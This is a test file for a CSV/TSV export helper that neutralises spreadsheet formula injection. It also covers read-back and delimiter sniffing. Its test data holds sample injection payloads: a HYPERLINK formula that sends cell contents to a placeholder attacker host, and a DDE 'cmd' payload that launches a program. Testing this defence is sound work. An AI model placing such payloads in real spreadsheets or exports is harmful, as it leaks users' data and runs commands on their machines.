"""Formula guarding for every CSV/TSV export (the helper; each export has its own test)."""

from __future__ import annotations

import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from everytouch.spreadsheet import (
    DELIMITERS,
    FORMULA_STARTS,
    decode,
    safe_cell,
    sniff_delimiter,
    unguard,
    writer,
)

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.mark.parametrize("text", [*FORMULAS, "-2+3", "\t=1", "\r=1"])
def test_it_makes_a_formula_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Jane Doe", "", "+13125550101", "+13125550101 +17735550103", 7, -7, "-42", "+3.50", "-0.5"],
)
def test_it_leaves_plain_text_numbers_and_e164_phones_alone(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["+1 555 0101", "+1 (312) 555-0101", "-2+3", "-1e5", "+"])
def test_it_keeps_a_formatted_phone_or_arithmetic_as_the_text_typed(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unguard("'" + text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''@SUM(A1)", "'-5"])
def test_it_guards_an_apostrophe_before_a_formula_so_it_reads_back_whole(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unguard(str(safe_cell(text))) == text


def test_it_reads_back_a_number_an_older_export_guarded() -> None:
    assert unguard("'-5") == "-5"


def test_it_writes_guarded_rows_with_the_delimiter_asked_for() -> None:
    out = io.StringIO()
    writer(out, delimiter="\t").writerows([["name", "id"], ["=1+1", 3]])
    assert out.getvalue() == "name\tid\r\n'=1+1\t3\r\n"


@given(st.one_of(st.text(), st.from_regex(r"\A'*[=+\-@\t\r]?[\d. ]*\Z")))
def test_it_reads_back_what_it_guarded(text: str) -> None:
    guarded = str(safe_cell(text))
    if guarded.startswith(FORMULA_STARTS):
        assert re.fullmatch(r"[+-]\d+(\.\d+)?|(\+\d+[ ;]?)+", guarded), guarded
    assert unguard(guarded) == text


# --- reading ---------------------------------------------------------------------------------

TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00\ufeff"))


@given(TEXT)
def test_it_reads_back_any_utf8_or_utf16_text(text: str) -> None:
    assert decode(text.encode("utf-8")) == (text, "UTF-8")
    assert decode(text.encode("utf-16")) == (text, "UTF-16")


@given(st.text(st.sampled_from("abcé;,\t\"' ")))
def test_it_always_picks_one_of_the_delimiters_it_knows(header: str) -> None:
    assert sniff_delimiter(header, lambda cell: cell in ("name", "phone")) in DELIMITERS
